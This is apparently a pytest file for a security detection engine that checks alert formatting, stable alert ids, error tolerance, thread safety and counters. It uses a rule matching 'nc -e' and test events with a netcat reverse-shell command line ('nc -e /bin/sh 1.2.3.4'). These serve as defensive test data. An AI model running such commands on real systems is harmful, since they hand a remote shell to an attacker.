"""Engine: alert shape, stable ids, never raising, thread safety, stats."""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any

from tests.collector.detection.detection_helpers import engine_for, proc, rule

RULE = rule("sel:\n    CommandLine|contains: 'nc -e'\ncondition: sel",
            extra="tags:\n    - attack.execution\n    - attack.t1059.004\n"
                  "description: reverse shell\nreferences: ['https://example.org/x']\n")


def test_alert_document_shape(tmp_path: Path) -> None:
    engine = engine_for(tmp_path, RULE)
    event = proc("nc -e /bin/sh 1.2.3.4", eid="agent-1-77", ts="2026-02-02T01:02:03Z")
    event["organization"] = {"name": "So TT&TT"}
    (alert,) = engine.process(event)
    assert alert["event"]["kind"] == "alert"
    assert alert["event"]["severity"] == 73
    assert alert["sisguard"]["alert"] == {"level": "high", "event_ids": ["agent-1-77"]}
    assert alert["@timestamp"] == "2026-02-02T01:02:03Z"
    assert alert["message"] == "Test rule"
    assert alert["rule"]["description"] == "reverse shell"
    assert alert["rule"]["reference"] == ["https://example.org/x"]
    assert alert["threat"] == {"framework": "MITRE ATT&CK",
                               "technique": {"id": ["T1059.004"]},
                               "tactic": {"id": ["TA0002"], "name": ["Execution"]}}
    assert alert["host"] == {"name": "web1"} and alert["organization"] == {"name": "So TT&TT"}
    assert alert["agent"] == {"id": "agent-1"}


def test_alert_id_is_stable_across_reprocessing(tmp_path: Path) -> None:
    event = proc("nc -e /bin/sh", eid="agent-1-5")
    first = engine_for(tmp_path, RULE).process(event)[0]["event"]["id"]
    again = engine_for(tmp_path, RULE).process(event)[0]["event"]["id"]
    other = engine_for(tmp_path, RULE).process(proc("nc -e /bin/sh", eid="agent-1-6"))
    assert first == again
    assert other[0]["event"]["id"] != first
    assert len(first) == 64


def test_bad_events_and_failing_rules_never_raise(tmp_path: Path) -> None:
    engine = engine_for(tmp_path, RULE)
    weird: list[dict[str, Any]] = [{}, {"event": "x"}, {"event": {"dataset": 5, "type": 3}},
             {"event": {"dataset": "sisguard.process", "type": ["start"]},
              "process": {"command_line": {"nested": 1}}}]
    for event in weird:
        assert engine.process(event) == []
    snap = engine._snapshot
    rule_obj = snap.result.detections[0]

    def boom(ev: object) -> bool:
        raise RuntimeError("bug")
    rule_obj.match = boom
    assert engine.process(proc("nc -e x")) == []
    stats = engine.stats()
    assert stats["errors"] == 1
    assert stats["rules"][rule_obj.meta.id]["errors"] == 1
    assert stats["events"] == len(weird) + 1


def test_concurrent_process_counts_every_event(tmp_path: Path) -> None:
    engine = engine_for(tmp_path, RULE)
    hits: list[int] = []

    def worker() -> None:
        count = 0
        for i in range(500):
            count += len(engine.process(proc("nc -e sh" if i % 2 else "ls")))
        hits.append(count)
    threads = [threading.Thread(target=worker) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    stats = engine.stats()
    assert sum(hits) == 8 * 250 == stats["alerts"]
    assert stats["events"] == 4000
    assert next(iter(stats["rules"].values()))["matches"] == 2000
